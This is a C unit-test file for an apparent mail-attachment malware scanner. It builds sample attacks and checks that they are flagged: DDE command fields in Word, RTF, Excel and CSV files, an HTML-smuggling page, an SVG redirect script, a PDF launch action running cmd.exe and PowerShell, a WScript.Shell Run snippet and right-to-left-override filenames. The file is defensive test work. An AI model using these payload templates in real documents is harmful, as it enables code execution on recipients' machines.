        /* garbage in the high 32 bits of the table stream's size, as old writers of
         * version 3 files left it: ignored */
        doc.p[1024 + 2 * 128 + 124] = 0x01;
        scan(w, doc.p, doc.len, doc.len, &r);
        assert_int_equal(r.flags, ZS_F_DDE);
        /* cut anywhere: never more than the bytes given are read */
        for (size_t k = 512; k < doc.len; k += 211)
            scan(w, doc.p, k, doc.len, &r);
        b_free(&doc);
        /* encrypted (fEncrypted): the text is not read */
        wd.p[0x0B] |= 0x01;
        doc = mk_doc(&wd, &tbl, "1Table", DOC_PLAIN);
        scan(w, doc.p, doc.len, doc.len, &r);
        assert_int_equal(r.flags, 0);
        assert_string_equal(r.desc, "Microsoft Word 97-2003 document");
        b_free(&doc);
        b_free(&wd);
        b_free(&tbl);
    }
    /* the piece table at the start of a table stream of 12 mini sectors, stored last first:
     * mini sector 161, in the last sector of the mini stream, its mini FAT entry in the mini
     * FAT's second sector */
    mk_word_streams(text, 4096, 0, true, &wd, &tbl);
    b_zero(&tbl, 700);
    struct buf first = mk_doc(&wd, &tbl, "1Table", DOC_PLAIN);
    scan(w, first.p, first.len, first.len, &r);
    assert_int_equal(r.flags, ZS_F_DDE);
    b_free(&first);
    b_free(&wd);
    b_free(&tbl);
    /* a DDE link to Excel: noted, not flagged */
    mk_word_streams("\x13 DDE Excel \"C:\\\\Data\\\\Q3.xls\" R1C1 \x14"
                    "42\x15",
                    4096, 0, true, &wd, &tbl);
    struct buf doc = mk_doc(&wd, &tbl, "1Table", DOC_PLAIN);
    scan(w, doc.p, doc.len, doc.len, &r);
    assert_int_equal(r.flags, 0);
    assert_non_null(strstr(r.note, "DDE link to Excel C:\\Data\\Q3.xls"));
    b_free(&doc);
    b_free(&wd);
    b_free(&tbl);
    /* the table the FIB names, 0Table, and not the other one */
    mk_word_streams(text, 4096, 100, false, &wd, &tbl);
    doc = mk_doc(&wd, &tbl, "0Table", DOC_DECOY_TABLE);
    scan(w, doc.p, doc.len, doc.len, &r);
    assert_int_equal(r.flags, ZS_F_DDE);
    b_free(&doc);
    doc = mk_doc(&wd, &tbl, "0Table", DOC_PLAIN); /* the only table stream */
    scan(w, doc.p, doc.len, doc.len, &r);
    assert_int_equal(r.flags, ZS_F_DDE);
    b_free(&doc);
    wd.p[0x0B] = 0x02;
    doc = mk_doc(&wd, &tbl, "0Table", DOC_DECOY_TABLE);
    scan(w, doc.p, doc.len, doc.len, &r);
    assert_int_equal(r.flags, 0);
    b_free(&doc);
    b_free(&wd);
    b_free(&tbl);
    /* a WordDocument stream under 4096 bytes, in the mini stream with the table */
    mk_word_streams(text, 0x800 + sizeof text, 100, true, &wd, &tbl);
    doc = mk_doc(&wd, &tbl, "1Table", DOC_PLAIN);
    scan(w, doc.p, doc.len, doc.len, &r);
    assert_int_equal(r.flags, ZS_F_DDE);
    /* hostile chains: the mini stream's sector chain and the mini FAT's each loop on their
     * first sector: read without a find, in bounded work */
    uint8_t *fat = doc.p + 512;
    uint32_t msec = 0;
    memcpy(&msec, doc.p + 1024 + 116, 4); /* the root entry's first sector */
    le32_at(fat + 4 * msec, msec);
    le32_at(fat + 4 * 2, 2); /* the mini FAT's first sector (2) */
    scan(w, doc.p, doc.len, doc.len, &r);
    assert_int_equal(r.flags, 0);
    b_free(&doc);
    b_free(&wd);
    b_free(&tbl);
    /* only the root storage's own streams: a "WordDocument" first in the directory that no
     * storage points to is passed over */
    mk_word_streams(text, 4096, 100, true, &wd, &tbl);
    doc = mk_doc(&wd, &tbl, "1Table", DOC_ORPHAN_FIRST);
    scan(w, doc.p, doc.len, doc.len, &r);
    assert_int_equal(r.flags, ZS_F_DDE);
    b_free(&doc);
    b_free(&wd);
    b_free(&tbl);
    /* max-entry-bytes 8 KiB, half of it for the WordDocument stream: a piece table 6,000
     * bytes into its stream is copied alone and read; a WordDocument stream of 6,000 bytes is
     * read as far as 4 KiB (the text there is found) and counted as a limit */
    zs_work_t *small = work(3, 256, 8192, 4 << 20);
    mk_word_streams(text, 4096, 6000, true, &wd, &tbl);
    doc = mk_doc(&wd, &tbl, "1Table", DOC_PLAIN);
    scan(small, doc.p, doc.len, doc.len, &r);
    assert_int_equal(r.flags, ZS_F_DDE);
    assert_false(r.status & ZS_S_LIMIT);
    b_free(&doc);
    b_free(&wd);
    b_free(&tbl);
    mk_word_streams(text, 6000, 100, true, &wd, &tbl);
    doc = mk_doc(&wd, &tbl, "1Table", DOC_PLAIN);
    scan(small, doc.p, doc.len, doc.len, &r);
    assert_int_equal(r.flags, ZS_F_DDE);
    assert_true(r.status & ZS_S_LIMIT);
    scan(w, doc.p, doc.len, doc.len, &r);
    assert_false(r.status & ZS_S_LIMIT);
    b_free(&doc);
    b_free(&wd);
    b_free(&tbl);
    zs_work_free(small);
    zs_work_free(w);
}

static void test_scan_dde(void **state)
{
    (void)state;
    zs_work_t *w = work(3, 256, 512 << 10, 4 << 20);
    struct zs_result r;
    const struct zs_item *it;
    static const char head[] =
        "<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/"
        "wordprocessingml/2006/main\"><w:body>";
    static const char field[] =
        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DDE"
        "</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "
        "&quot;/k echo mamori-test&quot;</w:instrText></w:r><w:r><w:fldChar "
        "w:fldCharType=\"end\"/></w:r></w:p>";
    struct buf body = {0};
    b_put(&body, head, strlen(head));
    for (int i = 0; i < 200; i++) {
        static const char para[] = "<w:p><w:r><w:t>Quarterly report, see the figures."
                                   "</w:t></w:r></w:p>";
        b_put(&body, para, strlen(para));
    }
    assert_true(body.len > 8192);
    b_put(&body, field, strlen(field));
    b_put(&body, "</w:body></w:document>", 22);
    struct zipw z = {0};
    zip_add(&z, "[Content_Types].xml", (const uint8_t *)CT_PLAIN, strlen(CT_PLAIN), DEFL);
    zip_add(&z, "word/document.xml", body.p, body.len, DEFL);
    struct buf docx = zip_end(&z);
    scan(w, docx.p, docx.len, docx.len, &r);
    assert_int_equal(r.kind, ZS_K_OOXML);
    assert_int_equal(r.flags, ZS_F_DDE);
    assert_string_equal(r.dde_app, "c:\\windows\\system32\\cmd.exe");
    assert_string_equal(r.dde_topic, "/k echo mamori-test");
    assert_true(r.dde_auto);
    assert_string_equal(r.desc,
                        "Microsoft Word 2007+ document with a DDE link that starts a program");
    it = need_item(&r, "word/document.xml");
    assert_int_equal(it->flags, ZS_F_DDE);
    assert_non_null(strstr(r.note, "word/document.xml: DDE field, updated on opening, "
                                   "c:\\windows\\system32\\cmd.exe /k echo mamori-test"));
    /* in a header part */
    struct buf hdr = {0};
    b_put(&hdr, head, strlen(head));
    b_put(&hdr, field, strlen(field));
    b_put(&hdr, "</w:body></w:document>", 22);
    zip_add(&z, "[Content_Types].xml", (const uint8_t *)CT_PLAIN, strlen(CT_PLAIN), DEFL);
    zip_add(&z, "word/document.xml", (const uint8_t *)"<w:document/>", 13, DEFL);
    zip_add(&z, "word/header1.xml", hdr.p, hdr.len, STORED);
    struct buf docx_h = zip_end(&z);
    scan(w, docx_h.p, docx_h.len, docx_h.len, &r);
    assert_int_equal(r.flags, ZS_F_DDE);
    need_item(&r, "word/header1.xml");
    /* the same text elsewhere in the package (a custom XML part) is not a field of Word's */
    zip_add(&z, "[Content_Types].xml", (const uint8_t *)CT_PLAIN, strlen(CT_PLAIN), DEFL);
    zip_add(&z, "customXml/item1.xml", hdr.p, hdr.len, DEFL);
    struct buf docx_c = zip_end(&z);
    scan(w, docx_c.p, docx_c.len, docx_c.len, &r);
    assert_int_equal(r.flags, 0);

    /* Excel: a DDE link to cmd; one to a workbook is only noted */
    static const char xl_cmd[] =
        "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
        "<ddeLink ddeService=\"cmd\" ddeTopic=\"/c echo mamori-test\"><ddeItems><ddeItem "
        "name=\"A0\" advise=\"1\"/></ddeItems></ddeLink></externalLink>";
    static const char xl_ok[] =
        "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
        "<ddeLink ddeService=\"Excel\" ddeTopic=\"C:\\Data\\Q3.xlsx\"/></externalLink>";
    zip_add(&z, "[Content_Types].xml", (const uint8_t *)CT_PLAIN, strlen(CT_PLAIN), DEFL);
    zip_add(&z, "xl/workbook.xml", (const uint8_t *)"<workbook/>", 11, DEFL);
    zip_add(&z, "xl/externalLinks/externalLink1.xml", (const uint8_t *)xl_cmd, strlen(xl_cmd),
            DEFL);
    struct buf xlsx = zip_end(&z);
    scan(w, xlsx.p, xlsx.len, xlsx.len, &r);
    assert_int_equal(r.flags, ZS_F_DDE);
    assert_string_equal(r.dde_app, "cmd");
    assert_false(r.dde_auto);
    need_item(&r, "xl/externalLinks/externalLink1.xml");
    zip_add(&z, "[Content_Types].xml", (const uint8_t *)CT_PLAIN, strlen(CT_PLAIN), DEFL);
    zip_add(&z, "xl/workbook.xml", (const uint8_t *)"<workbook/>", 11, DEFL);
    zip_add(&z, "xl/externalLinks/externalLink1.xml", (const uint8_t *)xl_ok, strlen(xl_ok),
            DEFL);
    struct buf xlsx_ok = zip_end(&z);
    scan(w, xlsx_ok.p, xlsx_ok.len, xlsx_ok.len, &r);
    assert_int_equal(r.flags, 0);
    assert_string_equal(r.dde_app, "");
    assert_non_null(strstr(r.note, "DDE link to Excel C:\\Data\\Q3.xlsx"));

    /* RTF */
    static const char rtf[] =
        "{\\rtf1\\ansi{\\fonttbl{\\f0 Calibri;}}\\pard{\\field{\\*\\fldinst {\\f0 DDEAUTO "
        "c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe \"/k echo mamori-test\"}}{\\fldrslt "
        "{Loading}}}\\par}";
    scan(w, (const uint8_t *)rtf, strlen(rtf), strlen(rtf), &r);
    assert_int_equal(r.kind, ZS_K_RTF);
    assert_int_equal(r.flags, ZS_F_DDE);
    assert_string_equal(r.desc, "Rich Text Format document with a DDE field that starts a "
                                "program");

    /* CSV: a DDE formula; ordinary formulas and pipes in data are not */
    static const char csv[] = "item,qty,note\r\npen,3,ok\r\n=cmd|' /C echo mamori-test'!A0,1,x\r\n";
    static const char csv_ok[] = "item,qty\r\npen,=SUM(B1:B3)\r\nlog,a|b|c!d\r\n";
    scan(w, (const uint8_t *)csv, strlen(csv), strlen(csv), &r);
    assert_int_equal(r.kind, ZS_K_TEXT);
    assert_int_equal(r.flags, ZS_F_DDE);
    assert_string_equal(r.dde_app, "cmd");
    assert_string_equal(r.dde_topic, "/C echo mamori-test");
    assert_string_equal(r.desc, "text spreadsheet (CSV or SYLK) with a DDE formula that starts "
                                "a program");
    scan(w, (const uint8_t *)csv_ok, strlen(csv_ok), strlen(csv_ok), &r);
    assert_int_equal(r.flags, 0);
    /* in a ZIP */
    zip_add(&z, "orders.csv", (const uint8_t *)csv, strlen(csv), DEFL);
    struct buf zcsv = zip_end(&z);
    scan(w, zcsv.p, zcsv.len, zcsv.len, &r);
    assert_int_equal(r.flags, ZS_F_DDE);
    it = need_item(&r, "orders.csv");
    assert_int_equal(it->flags, ZS_F_DDE);

    /* the detector */
    struct col c = {0};
    dtr_host_t *h = host(&c, NULL, 0);
    struct {
        const char *name;
        const struct buf *b;
        const char *raw;
        uint32_t sid;
        const char *want[3];
    } rows[] = {
        {"report.docx", &docx, NULL, 6007,
         {"\"reasons\":[\"dde_command\"]",
          "when opened, it updates a DDE field that starts c:\\\\windows\\\\system32\\\\cmd.exe"
          " with /k echo mamori-test: Word and Excel ask once",
          "\"dde\":{\"application\":\"c:\\\\windows\\\\system32\\\\cmd.exe\",\"topic\":\"/k "
          "echo mamori-test\",\"auto_update\":true}"}},
        {"prices.xlsx", &xlsx, NULL, 6007,
         {"it holds a DDE link that starts cmd with /c echo mamori-test",
          "\"path\":\"xl/externalLinks/externalLink1.xml\",\"type\":\"text\",\"reasons\":"
          "[\"dde_command\"]", NULL}},
        {"memo.rtf", NULL, rtf, 6007, {"\"reasons\":[\"dde_command\"]", NULL}},
        {"orders.csv", NULL, csv, 6007,
         {"\"dde\":{\"application\":\"cmd\",\"topic\":\"/C echo mamori-test\","
          "\"auto_update\":false}", "it holds a DDE link that starts cmd with /C echo", NULL}},
        {"orders.zip", &zcsv, NULL, 6007, {"\"reasons\":[\"dde_command\"]", NULL}},
        {"totals.csv", NULL, csv_ok, 0, {NULL}},
        {"q3.xlsx", &xlsx_ok, NULL, 0, {NULL}},
        {"data.docx", &docx_c, NULL, 0, {NULL}},
    };
    uint64_t ts = T0;
    for (size_t i = 0; i < MM_ARRAY_LEN(rows); i++) {
        size_t before = c.n;
        struct flow f = mk_flow(700 + i, 120, 25, 25);
        const uint8_t *p = rows[i].b ? rows[i].b->p : (const uint8_t *)rows[i].raw;
        size_t n = rows[i].b ? rows[i].b->len : strlen(rows[i].raw);
        struct app_file af = mk_file(APP_PROTO_SMTP, rows[i].name, p, n, NULL);
        feed(h, &f, FLOW_TOSERVER, ts, &af);
        ts += S_NS;
        check_row(&c, before, rows[i].name, rows[i].sid, rows[i].want);
    }
    tc_done();
    col_reset(&c);
    dtr_free(h);
    struct buf *all[] = {&body, &docx, &hdr, &docx_h, &docx_c, &xlsx, &xlsx_ok, &zcsv};
    for (size_t i = 0; i < MM_ARRAY_LEN(all); i++)
        b_free(all[i]);
    zs_work_free(w);
}

/* HTML smuggling and SVG scripts: the three parts of smuggling together, not any one or two
 * (web pages use each); a page that starts with a script tag; inside a ZIP; an SVG with and
 * without script; the detector's reason and sid for a mail attachment. */
static void test_scan_markup(void **state)
{
    (void)state;
    zs_work_t *w = work(3, 256, 512 << 10, 4 << 20);
    struct zs_result r;
    static const char smuggle[] =
        "<!DOCTYPE html><html><body><p>Loading your invoice...</p><script>\n"
        "var b64 = 'UEsDBBQAAAAIAAAAIQAAAAAAAAAAAAAAAAA=';\n"
        "var raw = atob(b64), bytes = new Uint8Array(raw.length);\n"
        "for (var i = 0; i < raw.length; i++) bytes[i] = raw.charCodeAt(i);\n"
        "var blob = new Blob([bytes], {type: 'application/octet-stream'});\n"
        "var a = document.createElement('a'); a.href = URL.createObjectURL(blob);\n"
        "a.download = 'invoice.zip'; document.body.appendChild(a); a.click();\n"
        "</script></body></html>\n";
    scan(w, (const uint8_t *)smuggle, strlen(smuggle), strlen(smuggle), &r);
    assert_int_equal(r.kind, ZS_K_HTML);
    assert_int_equal(r.flags, ZS_F_SMUGGLING);
    assert_string_equal(r.desc, "HTML page that builds a file and downloads it (HTML smuggling)");
    /* one part missing: a page that makes a blob but saves nothing, one that saves a blob of
     * its own text without decoding any data */
    static const char no_save[] = "<html><script>var b = new Blob([atob('QUJD')]);"
                                  "show(URL.createObjectURL(b));</script></html>";
    scan(w, (const uint8_t *)no_save, strlen(no_save), strlen(no_save), &r);
    assert_int_equal(r.flags, 0);
    static const char no_data[] = "<html><script>var b = new Blob([document.body.innerText]);"
                                  "a.href = URL.createObjectURL(b); a.download = 'notes.txt';"
                                  "</script></html>";
    scan(w, (const uint8_t *)no_data, strlen(no_data), strlen(no_data), &r);
    assert_int_equal(r.flags, 0);
    /* a link with a base64 data URL and a download attribute, in text that starts with a tag */
    static const char link[] = "<meta charset=utf-8><a download=\"scan.iso\" href=\"data:"
                               "application/octet-stream;base64,Q0QwMDE=\">Open</a>";
    scan(w, (const uint8_t *)link, strlen(link), strlen(link), &r);
    assert_int_equal(r.flags, ZS_F_SMUGGLING);
    /* inside a ZIP */
    struct zipw z = {0};
    zip_add(&z, "invoice.html", (const uint8_t *)smuggle, strlen(smuggle), DEFL);
    struct buf zp = zip_end(&z);
    scan(w, zp.p, zp.len, zp.len, &r);
    assert_int_equal(r.flags, ZS_F_SMUGGLING);
    const struct zs_item *it = need_item(&r, "invoice.html");
    assert_int_equal(it->kind, ZS_K_HTML);
    /* SVG */
    static const char svg_js[] =
        "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\">"
        "<script type=\"text/javascript\">window.location='https://198.51.100.7/';</script>"
        "</svg>";
    static const char svg[] = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\">"
                              "<circle r=\"4\"/></svg>";
    scan(w, (const uint8_t *)svg_js, strlen(svg_js), strlen(svg_js), &r);
    assert_int_equal(r.flags, ZS_F_SCRIPT);
    assert_string_equal(r.desc, "SVG image with a script");
    scan(w, (const uint8_t *)svg, strlen(svg), strlen(svg), &r);
    assert_int_equal(r.flags, 0);
    /* the same code as text of an Office part (its tags escaped) */
    static const char escaped[] =
        "<w:t>&lt;script&gt;var s = atob(d); var u = URL.createObjectURL(new Blob([s]));"
        " a.download = 'x.zip';&lt;/script&gt;</w:t>";
    scan(w, (const uint8_t *)escaped, strlen(escaped), strlen(escaped), &r);
    assert_int_equal(r.flags, 0);
    /* plain text with the words, no tags */
    static const char words[] = "new Blob( a.download atob( - notes on HTML smuggling\n";
    scan(w, (const uint8_t *)words, strlen(words), strlen(words), &r);
    assert_int_equal(r.flags, 0);

    struct col c = {0};
    dtr_host_t *h = host(&c, NULL, 0);
    struct flow f = mk_flow(700, 120, 25, 25);
    struct app_file af = mk_file(APP_PROTO_SMTP, "Invoice_0423.html", (const uint8_t *)smuggle,
                                 strlen(smuggle), "text/html");
    feed(h, &f, FLOW_TOSERVER, T0, &af);
    struct flow f2 = mk_flow(701, 120, 25, 25);
    struct app_file af2 = mk_file(APP_PROTO_SMTP, "fax.svg", (const uint8_t *)svg_js,
                                  strlen(svg_js), "image/svg+xml");
    feed(h, &f2, FLOW_TOSERVER, T0 + S_NS, &af2);
    struct flow f3 = mk_flow(702, 120, 25, 25);
    struct app_file af3 = mk_file(APP_PROTO_SMTP, "files.zip", zp.p, zp.len, NULL);
    feed(h, &f3, FLOW_TOSERVER, T0 + 2 * S_NS, &af3);
    assert_int_equal(c.n, 3);
    assert_int_equal(c.sid[0], 6003);
    assert_true(has_str(c.json[0], "\"reasons\":[\"html_smuggling\"]"));
    assert_true(has_str(c.json[0], "downloads it when opened (HTML smuggling)"));
    assert_int_equal(c.sid[1], 6003);
    assert_true(has_str(c.json[1], "\"reasons\":[\"script\"]"));
    assert_true(has_str(c.json[1], "the content is SVG image with a script"));
    assert_int_equal(c.sid[2], 6003);
    assert_true(has_str(c.json[2], "(HTML smuggling): invoice.html"));
    assert_true(has_str(c.json[2], "\"reasons\":[\"html_smuggling\"]}"));
    col_reset(&c);
    dtr_free(h);
    b_free(&zp);
    zs_work_free(w);
}

/* PDF: a launch action that runs a command interpreter (a script), one that opens another
 * PDF (noted only), an embedded executable and an embedded macro document (by name),
 * JavaScript on opening (noted only); the detector's sids. */
static void test_scan_pdf(void **state)
{
    (void)state;
    zs_work_t *w = work(3, 256, 512 << 10, 4 << 20);
    struct zs_result r;
    static const char launch[] =
        "%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n"
        "2 0 obj << /S /Launch /Win << /F (cmd.exe) /P (/c powershell -e SQBFAFgA) >> >> endobj\n"
        "trailer << /Root 1 0 R >>\n%%EOF\n";
    scan(w, (const uint8_t *)launch, strlen(launch), strlen(launch), &r);
    assert_int_equal(r.kind, ZS_K_PDF);
    assert_int_equal(r.flags, ZS_F_SCRIPT);
    assert_string_equal(r.desc, "PDF document with a launch action that runs cmd.exe");
    assert_non_null(strstr(r.note, "launch action: cmd.exe"));
    /* the same launch action inside a compressed object stream (PDF 1.5), as droppers hide
     * it; with no room to inflate it (the depth bound), it is not seen */
    static const char hidden[] = "2 0 << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>";
    uint8_t zd[256];
    uLongf zl = sizeof zd;
    assert_int_equal(compress2(zd, &zl, (const Bytef *)hidden, (uLong)strlen(hidden), 9), Z_OK);
    struct buf objstm = {0};
    static const char head[] = "%PDF-1.5\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n"
                               "5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >> "
                               "stream\r\n";
    b_put(&objstm, head, strlen(head));
    b_put(&objstm, zd, zl);
    b_put(&objstm, "\r\nendstream\nendobj\n%%EOF\n", 26);
    scan(w, objstm.p, objstm.len, objstm.len, &r);
    assert_int_equal(r.flags, ZS_F_SCRIPT);
    assert_string_equal(r.desc, "PDF document with a launch action that runs cmd.exe");
    assert_int_equal(r.inflated_bytes, strlen(hidden));
    assert_int_equal(r.status, 0);
    zs_work_t *flat = work(1, 256, 512 << 10, 4 << 20);
    struct zipw zz = {0};
    zip_add(&zz, "statement.pdf", objstm.p, objstm.len, DEFL);
    struct buf zpdf = zip_end(&zz);
    scan(flat, zpdf.p, zpdf.len, zpdf.len, &r); /* the PDF at depth 1 = max-depth */
    assert_false(r.flags & ZS_F_SCRIPT);
    assert_true(r.status & ZS_S_LIMIT);
    scan(w, zpdf.p, zpdf.len, zpdf.len, &r);
    assert_true(r.flags & ZS_F_SCRIPT);
    b_free(&zpdf);
    zs_work_free(flat);
    /* what the object stream inflates to is charged to the scan's budget */
    struct buf pe4 = mk_pe(3000, false);
    zip_add(&zz, "statement.pdf", objstm.p, objstm.len, DEFL);
    zip_add(&zz, "payload.bin", pe4.p, pe4.len, DEFL);
    zpdf = zip_end(&zz);
    size_t total = objstm.len + strlen(hidden) + 16;
    zs_work_t *tight = work(3, 256, 512 << 10, total);
    scan(tight, zpdf.p, zpdf.len, zpdf.len, &r);
    assert_true(r.flags & ZS_F_SCRIPT);
    assert_true(r.inflated_bytes <= total);
    assert_true(r.status & ZS_S_LIMIT);
    zs_work_free(tight);
    b_free(&zpdf);
    b_free(&pe4);
    static const char go[] = "%PDF-1.7\n1 0 obj << /S /Launch /F (chapter2.pdf) >> endobj\n";
    scan(w, (const uint8_t *)go, strlen(go), strlen(go), &r);
    assert_int_equal(r.flags, 0);
    assert_string_equal(r.desc, "PDF document");
    assert_non_null(strstr(r.note, "launch action: chapter2.pdf"));
    static const char emb[] =
        "%PDF-1.7\n1 0 obj << /Names << /EmbeddedFiles << /Names [(a) 2 0 R (b) 4 0 R] >> >> "
        "/OpenAction << /S /JavaScript /JS (this.exportDataObject\\({cName: 'a'}\\)) >> >> "
        "endobj\n2 0 obj << /Type /Filespec /F (scan_0423.exe) /EF << /F 3 0 R >> >> endobj\n"
        "4 0 obj << /Type /Filespec /UF (order.docm) /EF << /F 5 0 R >> >> endobj\n";
    scan(w, (const uint8_t *)emb, strlen(emb), strlen(emb), &r);
    assert_int_equal(r.flags, ZS_F_EXECUTABLE | ZS_F_MACRO | ZS_F_MACRO_NAME);
    need_item(&r, "scan_0423.exe");
    need_item(&r, "order.docm");
    assert_non_null(strstr(r.note, "JavaScript with an open or additional action"));

    struct col c = {0};
    dtr_host_t *h = host(&c, NULL, 0);
    const char *docs[] = {launch, go, emb};
    const char *names[] = {"invoice.pdf", "manual.pdf", "scan.pdf"};
    for (int i = 0; i < 3; i++) {
        struct flow f = mk_flow(800 + (uint64_t)i, 120, 25, 25);
        struct app_file af = mk_file(APP_PROTO_SMTP, names[i], (const uint8_t *)docs[i],
                                     strlen(docs[i]), "application/pdf");
        feed(h, &f, FLOW_TOSERVER, T0 + (uint64_t)i * S_NS, &af);
    }
    assert_int_equal(c.n, 2);
    assert_int_equal(c.sid[0], 6003);
    assert_true(has_str(c.json[0], "\"reasons\":[\"script\"]"));
    assert_true(has_str(c.json[0], "the content is PDF document with a launch action that runs "
                                   "cmd.exe"));
    assert_int_equal(c.sid[1], 6002);
    assert_true(has_str(c.json[1], "\"reasons\":[\"executable\",\"macro\"]"));
    assert_true(has_str(c.json[1], "it holds a file named as an executable: scan_0423.exe"));
    /* the launch action hidden in an object stream */
    struct flow f4 = mk_flow(810, 120, 25, 25);
    struct app_file af4 = mk_file(APP_PROTO_SMTP, "notice.pdf", objstm.p, objstm.len,
                                  "application/pdf");
    feed(h, &f4, FLOW_TOSERVER, T0 + 5 * S_NS, &af4);
    assert_int_equal(c.n, 3);
    assert_int_equal(c.sid[2], 6003);
    assert_true(has_str(c.json[2], "a launch action that runs cmd.exe"));
    b_free(&objstm);
    col_reset(&c);
    dtr_free(h);
    zs_work_free(w);
}

static void test_detector_signatures(void **state)
{
    (void)state;
    struct col c = {0};
    dtr_host_t *h = host(&c, NULL, 0);
    struct flow fl = mk_flow(1, 120, 25, 25);
    struct buf pe = mk_pe(2048, false);
    static const char *const vba_names[] = {"WordDocument", "Macros", "VBA", "_VBA_PROJECT"};
    static const uint8_t vba_types[] = {2, 1, 1, 2};
    struct buf ole = mk_ole(vba_names, vba_types, 4, NULL, false);
    struct zipw z = {0};
    zip_add(&z, "[Content_Types].xml", (const uint8_t *)CT_MACRO, strlen(CT_MACRO), DEFL);
    zip_add(&z, "word/vbaProject.bin", ole.p, ole.len, DEFL);
    struct buf docm = zip_end(&z);
    zip_add(&z, "invoice.doc", ole.p, ole.len, (struct zent_opt){8, 1, 1});
    struct buf enc = zip_end(&z);
    static const char pdf[] = "%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<<>>\n%%EOF\n";
    static const char js[] = "var s = new ActiveXObject('WScript.Shell'); s.Run('calc');\n";

    struct {
        const char *name;
        const uint8_t *d;
        size_t n;
        uint32_t sid; /* 0: no alert */
        const char *reasons;
    } rows[] = {
        {"invoice_2024-04.pdf", (const uint8_t *)pdf, strlen(pdf), 0, NULL},
        {"NEWS.txt", (const uint8_t *)"plain words\r\n", 13, 0, NULL},
        {"scan.pdf.exe", pe.p, pe.len, 6001, "[\"double_extension\",\"executable\"]"},
        {"setup.exe", pe.p, pe.len, 6002, "[\"executable\"]"},
        {"tool.dat", pe.p, pe.len, 6002, "[\"executable\"]"},
        {"invoice.js", (const uint8_t *)js, strlen(js), 6003, "[\"script\"]"},
        {"report.docm", docm.p, docm.len, 6004, "[\"macro\"]"},
        {"report.doc", ole.p, ole.len, 6004, "[\"macro\"]"},
        {"invoice_0423.zip", enc.p, enc.len, 6005, "[\"encrypted_archive\"]"},
        {"invoice.pdf", docm.p, docm.len, 6004, "[\"macro\",\"type_mismatch\"]"},
        {"photo.jpg", enc.p, enc.len, 6005, "[\"encrypted_archive\",\"type_mismatch\"]"},
        {"invoice.pdf", pe.p, pe.len, 6002, "[\"executable\",\"type_mismatch\"]"},
        {"invoice\xe2\x80\xae" "fdp.exe", pe.p, pe.len, 6001,
         "[\"rtl_override\",\"executable\"]"},
        {"\xe2\x80\x8f" "report.pdf", (const uint8_t *)pdf,
         strlen(pdf), 0, NULL},
    };
    uint64_t ts = T0;
    for (size_t i = 0; i < MM_ARRAY_LEN(rows); i++) {
        size_t before = c.n;
        struct flow f = mk_flow(100 + i, 120, 25, 25);
        struct app_file af = mk_file(APP_PROTO_SMTP, rows[i].name, rows[i].d, rows[i].n, NULL);
        feed(h, &f, FLOW_TOSERVER, ts, &af);
        ts += S_NS;
        if (!rows[i].sid) {
            TC_EQ(rows[i].name, c.n, before);
            continue;
        }
        TC_EQ(rows[i].name, c.n, before + 1);
        if (c.n != before + 1)
            continue;
        TC_EQ(rows[i].name, c.sid[before], rows[i].sid);
        char want[160];
        snprintf(want, sizeof want, "\"reasons\":%s", rows[i].reasons);
        TC_CHECK(rows[i].name, has_str(c.json[before], want));
        if (!has_str(c.json[before], want))
            fprintf(stderr, "  got %s\n", c.json[before]);
        /* sender to receiver: the SMTP client gave the file to the server */
        TC_EQ(rows[i].name, c.src[before].b[3], 120);
        TC_EQ(rows[i].name, c.dst[before].b[3], 25);
        TC_EQ(rows[i].name, c.dport[before], 25);
    }
    tc_done();

    /* the evidence of the Emotet-style zip (the 7th alert) */
    size_t k = 8; /* k - 2 = 6 */
    assert_true(has_str(c.json[k - 2], "\"encryption\":\"zipcrypto\""));
    assert_true(has_str(c.json[k - 2], "\"names\":[\"invoice.doc\"]"));
    assert_true(has_str(c.json[k - 2], "\"contents_visible\":false"));
    assert_true(has_str(c.json[k - 2], "cannot be checked for macros"));
    assert_true(has_str(c.json[k - 2], "\"sender\":\"keiri@trade-partner.example\""));
    assert_true(has_str(c.json[k - 2], "\"recipients\":[\"sato@sakura-trading.example\"]"));
    assert_true(has_str(c.json[k - 2], "\"subject\":\"Re: invoice\""));
    assert_true(has_str(c.json[k - 2], "\"protocol\":\"smtp\""));
    assert_true(has_str(c.json[k - 2], "\"direction\":\"inbound\""));
    char sha[80];
    {
        struct app_file af = mk_file(APP_PROTO_SMTP, "x", enc.p, enc.len, NULL);
        char hex[65];
        for (int i = 0; i < 32; i++)
            snprintf(hex + 2 * i, 3, "%02x", af.sha256[i]);
        snprintf(sha, sizeof sha, "\"sha256\":\"%s\"", hex);
    }
    assert_true(has_str(c.json[k - 2], sha));
    (void)fl;
    col_reset(&c);
    dtr_free(h);
    b_free(&pe);
    b_free(&ole);
    b_free(&docm);
    b_free(&enc);
}

/* An encrypted ZIP with its password in the message's text (the Emotet mail): opened and
 * judged by what is inside; the wrong password in the text leaves it an encrypted archive;
 * harmless contents behind a password given in the text raise nothing. */
static void test_detector_password(void **state)
{
    (void)state;
    struct col c = {0};
    dtr_host_t *h = host(&c, NULL, 0);
    static const char *const vba_names[] = {"WordDocument", "Macros", "VBA", "_VBA_PROJECT"};
    static const uint8_t vba_types[] = {2, 1, 1, 2};
    struct buf ole = mk_ole(vba_names, vba_types, 4, NULL, false);
    static const char txt[] = "Minutes of the April meeting.\r\n";
    struct zipw z = {0};
    zip_add_zc(&z, "invoice.doc", ole.p, ole.len, 8, "0423", false);
    struct buf enc = zip_end(&z);
    zip_add_zc(&z, "minutes.txt", (const uint8_t *)txt, strlen(txt), 8, "0423", false);
    struct buf plain = zip_end(&z);
    zip_add_zc(&z, "invoice.doc", ole.p, ole.len, 8, "0423", false);
